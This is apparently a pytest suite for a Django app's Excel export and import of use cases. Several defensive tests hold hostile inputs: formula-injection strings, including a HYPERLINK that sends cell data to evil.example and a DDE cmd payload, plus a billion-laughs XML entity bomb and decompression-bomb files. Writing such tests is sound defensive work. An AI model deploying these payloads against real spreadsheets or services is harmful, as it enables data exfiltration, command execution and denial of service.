"""Excel export and import of the use-case list."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import translation
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet._read_only import ReadOnlyWorksheet

from startklar.accounts.models import User
from startklar.organisations.models import Membership, Organisation
from startklar.organisations.tenancy import Tenant
from startklar.testing import make_organisation
from startklar.usecases import excel, queries, services
from startklar.usecases.models import Status, UseCase

pytestmark = pytest.mark.django_db


@pytest.fixture
def tenant(organisation: Organisation, owner: User) -> Tenant:
    return Tenant(organisation, Membership.objects.get(user=owner))


def fill(tenant: Tenant) -> None:
    a = services.create_use_case(
        tenant,
        {
            "title": "Angebote",
            "problem": "Dauert.",
            "goal_metric": "Durchlaufzeit",
            "goal_unit": "Tage",
            "goal_baseline_value": Decimal(5),
            "goal_target_value": Decimal("2.5"),
            "estimated_cost": Decimal("12000.50"),
            "person_days": Decimal("14.5"),
        },
        "vertrieb.angebote-entwerfen",
    )
    services.set_scores(tenant, a, {"daten": 2, "geschaeftswert": 5})
    b = services.create_use_case(tenant, {"title": "Wartung", "problem": "Ausfälle."})
    services.change_status(tenant, b, Status.POSTPONED, "Budget 2027")


def snapshot(tenant: Tenant) -> list[tuple[object, ...]]:
    return [
        (
            r.use_case.title,
            r.use_case.status,
            r.use_case.goal_unit,
            r.use_case.goal_baseline_value,
            r.use_case.goal_target_value,
            r.use_case.goal_unparsed,
            r.use_case.estimated_cost,
            r.use_case.person_days,
            r.use_case.catalogue_id,
            tuple(sorted(r.scores.items())),
        )
        for r in queries.rows(tenant)
    ]


def upload(client: Client, organisation: Organisation, content: bytes) -> object:
    file = SimpleUploadedFile("liste.xlsx", content)
    return client.post(f"/o/{organisation.slug}/usecases/import/", {"file": file})


def test_export_then_import_gives_the_same_list(tenant: Tenant, owner_client: Client) -> None:
    fill(tenant)
    before = snapshot(tenant)
    content = owner_client.get(f"/o/{tenant.organisation.slug}/usecases/export.xlsx").content
    response = upload(owner_client, tenant.organisation, content)
    assert response.status_code == 302  # type: ignore[attr-defined]
    assert snapshot(tenant) == before
    assert UseCase.objects.count() == 2


def test_an_export_imports_into_another_organisation(tenant: Tenant, owner: User) -> None:
    fill(tenant)
    content = excel.export(tenant)
    other = make_organisation("Zweitfirma GmbH")
    membership = Membership.objects.create(organisation=other, user=owner, role="owner")
    result = excel.import_rows(Tenant(other, membership), io.BytesIO(content))
    assert (result.created, result.updated) == (2, 0)
    assert UseCase.objects.filter(organisation=other).count() == 2
    assert UseCase.objects.filter(organisation=tenant.organisation).count() == 2


def workbook(headers: list[str], *rows: list[object]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_missing_and_unknown_columns_are_listed_and_nothing_is_imported(
    tenant: Tenant, owner_client: Client
) -> None:
    content = workbook(["Titel", "Farbe", "Preis"], ["A", "rot", 3])
    response = upload(owner_client, tenant.organisation, content)
    assert response.status_code == 422  # type: ignore[attr-defined]
    problems = response.context["problems"]  # type: ignore[attr-defined]
    assert any("Problem" in p for p in problems)
    assert any("Farbe" in p and "Preis" in p for p in problems)
    assert not UseCase.objects.exists()


def test_one_bad_row_stops_the_whole_import_with_row_numbers(tenant: Tenant) -> None:
    content = workbook(
        ["Titel", "Problem", "Kosten (EUR)", "Status", "Kriterium: Datenverfügbarkeit"],
        ["Gut", "p", 100, "idee", 3],
        ["Schlecht", "p", "teuer", "fertig", 9],
    )
    with pytest.raises(excel.ExcelImportError) as caught:
        excel.import_rows(tenant, io.BytesIO(content))
    text = " ".join(caught.value.problems)
    assert "3" in text
    assert "Kosten (EUR)" in text
    assert "fertig" in text
    assert "Datenverfügbarkeit" in text
    assert not UseCase.objects.exists()


@pytest.mark.parametrize("content", [b"", b"not a spreadsheet", b"PK\x03\x04broken"])
def test_a_file_that_is_not_excel_gets_a_clear_message(tenant: Tenant, content: bytes) -> None:
    with pytest.raises(excel.ExcelImportError, match="xlsx"):
        excel.import_rows(tenant, io.BytesIO(content))


def test_postponing_in_the_file_needs_a_reason_there_too(tenant: Tenant) -> None:
    content = workbook(["Titel", "Problem", "Status"], ["A", "p", "verworfen"])
    result = excel.import_rows(tenant, io.BytesIO(content))  # reason defaults to "Excel import"
    assert result.created == 1
    assert UseCase.objects.get().status == Status.DISCARDED


def test_the_export_has_one_column_per_criterion(tenant: Tenant) -> None:
    fill(tenant)
    sheet = load_workbook(io.BytesIO(excel.export(tenant))).active
    assert sheet is not None
    headers = [c.value for c in sheet[1]]
    assert headers[:3] == ["ID", "Titel", "Katalog-ID"]
    assert "Kriterium: Datenverfügbarkeit" in headers


@pytest.mark.parametrize(
    ("language", "status", "classic", "header"),
    [
        ("de", "Zurückgestellt", "Noch nicht geprüft", "Titel"),
        ("en", "Postponed", "Not yet checked", "Title"),
    ],
)
def test_the_export_speaks_the_readers_language_and_imports_back(
    tenant: Tenant, language: str, status: str, classic: str, header: str
) -> None:
    fill(tenant)
    before = snapshot(tenant)
    with translation.override(language):
        content = excel.export(tenant)
        sheet = load_workbook(io.BytesIO(content)).active
        assert sheet is not None
        rows = [[c.value for c in row] for row in sheet.iter_rows()]
        assert rows[0][1] == header
        assert status in rows[2]
        assert classic in rows[2]
        assert not {"zurueckgestellt", "unklar"} & set(rows[2])
        excel.import_rows(tenant, io.BytesIO(content))
    assert snapshot(tenant) == before


def test_labels_of_either_language_and_number_cells_are_read(tenant: Tenant) -> None:
    content = workbook(
        ["Title", "Problem", "Status", "Kosten (EUR)", "Aufwand (Personentage)"],
        ["A", "p", "Selected", 1250, "2,5"],
        ["B", "p", "ausgewählt", 4800.5, 3],
    )
    excel.import_rows(tenant, io.BytesIO(content))
    a, b = UseCase.objects.order_by("title")
    assert (a.status, b.status) == (Status.SELECTED, Status.SELECTED)
    assert a.estimated_cost == Decimal("1250")
    assert a.person_days == Decimal("2.5")
    assert b.estimated_cost == Decimal("4800.50")


def test_a_number_cell_is_never_reread_as_german_text(tenant: Tenant) -> None:
    """1.234 in an Excel number cell is one point two three four, not 1234 euros."""
    content = workbook(["Titel", "Problem", "Kosten (EUR)"], ["A", "p", 1.234])
    with pytest.raises(excel.ExcelImportError, match=r"Zeile 2, Kosten.*Dezimalstellen"):
        excel.import_rows(tenant, io.BytesIO(content))


def test_a_title_twice_in_the_file_or_beside_an_existing_one_is_refused(tenant: Tenant) -> None:
    fill(tenant)
    content = workbook(["Titel", "Problem"], ["Neu", "p"], ["neu ", "p"], ["ANGEBOTE", "p"])
    with pytest.raises(excel.ExcelImportError) as caught:
        excel.import_rows(tenant, io.BytesIO(content))
    text = " ".join(caught.value.problems)
    assert "Zeile 3" in text
    assert "Zeile 4" in text
    assert UseCase.objects.count() == 2


HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?d="&A1,"Angebot öffnen")',
    "problem": "=cmd|' /C calc'!A0",
    "goal_metric": "+1+1",
    "goal_unit": "@SUM(1)",
    "goal_unparsed": "-20 % → =1+1",
    "process_owner": "\tTab voran",
}


def test_exported_text_is_never_a_formula_and_imports_back_unchanged(
    tenant: Tenant, owner_client: Client
) -> None:
    """Formula injection: people's text that starts like a formula stays text in the file."""
    use_case = services.create_use_case(tenant, HOSTILE)
    content = excel.export(tenant)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    row = {str(h.value): c for h, c in zip(sheet[1], sheet[2], strict=True)}
    title = row[str(excel.headers()[1])]
    assert title.data_type == "s"
    assert title.value == HOSTILE["title"]
    assert title.quotePrefix  # Excel keeps it text when someone edits the cell
    assert all(c.data_type != "f" for c in sheet[2])
    before = snapshot(tenant)
    response = upload(owner_client, tenant.organisation, content)
    assert response.status_code == 302  # type: ignore[attr-defined]
    assert snapshot(tenant) == before
    use_case.refresh_from_db()
    assert (use_case.problem, use_case.goal_metric) == (HOSTILE["problem"], "+1+1")


def test_a_control_character_in_a_title_does_not_break_the_export(tenant: Tenant) -> None:
    use_case = services.create_use_case(tenant, {"title": "Angebote", "problem": "x"})
    UseCase.objects.filter(pk=use_case.pk).update(title="Ange\x0bbote\x07 \x1b[31m")
    sheet = load_workbook(io.BytesIO(excel.export(tenant))).active
    assert sheet is not None
    assert sheet.cell(row=2, column=2).value == "Angebote [31m"


def replaced(content: bytes, part: str, data: bytes) -> bytes:
    """``content`` (an .xlsx) with one of its parts replaced."""
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, data if info.filename == part else source.read(info))
        if part not in source.namelist():
            target.writestr(part, data)
    return buffer.getvalue()


def test_a_small_file_declaring_a_million_rows_is_refused_without_reading_them(
    tenant: Tenant, monkeypatch: pytest.MonkeyPatch
) -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(excel.headers())
    sheet.append(["", "Angebote", "", "Dauert."])
    xml = io.BytesIO()
    book.save(xml)
    content = replaced(
        xml.getvalue(),
        "xl/worksheets/sheet1.xml",
        zipfile.ZipFile(io.BytesIO(xml.getvalue()))
        .read("xl/worksheets/sheet1.xml")
        .replace(
            b"</sheetData>",
            b'<row r="1000000"><c r="B1000000" t="inlineStr"><is><t>x'
            b"</t></is></c></row></sheetData>",
        ),
    )
    assert len(content) < 20_000
    read = 0
    original = ReadOnlyWorksheet._cells_by_row  # type: ignore[attr-defined]

    def counting(*args: object, **kwargs: object) -> Iterator[object]:
        nonlocal read
        for row in original(*args, **kwargs):
            read += 1
            yield row

    monkeypatch.setattr(ReadOnlyWorksheet, "_cells_by_row", counting)
    with pytest.raises(excel.ExcelImportError) as caught:
        excel.read_rows(io.BytesIO(content))
    assert read <= excel.MAX_ROWS + 2  # stopped after the limit, not after a million rows
    assert "2000" in str(caught.value) or "2.000" in str(caught.value)
    assert not UseCase.objects.exists()


def test_a_file_that_unpacks_to_a_huge_text_is_refused_before_it_is_parsed(
    tenant: Tenant, owner_client: Client
) -> None:
    huge = b"<sst><si><t>" + b"x" * (excel.MAX_UNPACKED + 1) + b"</t></si></sst>"
    content = replaced(excel.export(tenant), "xl/sharedStrings.xml", huge)
    assert len(content) < excel.MAX_BYTES  # small as uploaded
    response = upload(owner_client, tenant.organisation, content)
    assert response.status_code == 422  # type: ignore[attr-defined]
    assert "MB" in response.content.decode()  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "xml",
    [
        b"<worksheet><sheetData><row>",  # cut off
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;'
        b'&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><worksheet>&c;</worksheet>',
    ],
)
def test_malformed_xml_inside_the_file_gets_a_message(
    tenant: Tenant, owner_client: Client, xml: bytes
) -> None:
    fill(tenant)
    before = snapshot(tenant)
    content = replaced(excel.export(tenant), "xl/worksheets/sheet1.xml", xml)
    response = upload(owner_client, tenant.organisation, content)
    assert response.status_code == 422  # type: ignore[attr-defined]
    assert 'class="alert alert-danger' in response.content.decode()  # type: ignore[attr-defined]
    assert snapshot(tenant) == before


def test_an_upload_larger_than_the_limit_is_cut_off_while_it_arrives(
    tenant: Tenant, owner_client: Client
) -> None:
    response = upload(owner_client, tenant.organisation, b"x" * (excel.MAX_BYTES + 1))
    assert response.status_code == 422  # type: ignore[attr-defined]
    assert "größer als 5 MB" in response.content.decode()  # type: ignore[attr-defined]
    assert not UseCase.objects.exists()
